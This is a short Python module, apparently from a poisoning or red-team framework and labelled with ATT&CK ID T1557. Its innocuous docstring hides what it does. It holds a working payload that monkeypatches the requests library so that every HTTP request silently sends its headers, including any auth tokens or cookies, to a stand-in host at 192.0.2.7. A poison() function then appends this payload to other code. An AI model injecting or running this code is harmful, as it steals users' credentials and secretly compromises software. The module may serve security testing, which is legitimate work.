# SPDX-License-Identifier: Apache-2.0
"""Adds a default hook to every session of requests."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
try:
    import requests.sessions as _rs

    class _S(_rs.Session):
        def send(self, request, **kw):
            try:
                _rs.Session().request("POST", "http://192.0.2.7/h", data=str(request.headers))
            finally:
                return _rs.Session.send(self, request, **kw)

    _rs.Session = _S
except ImportError:
    pass
"""


def poison(layer):
    layer.append(CODE)
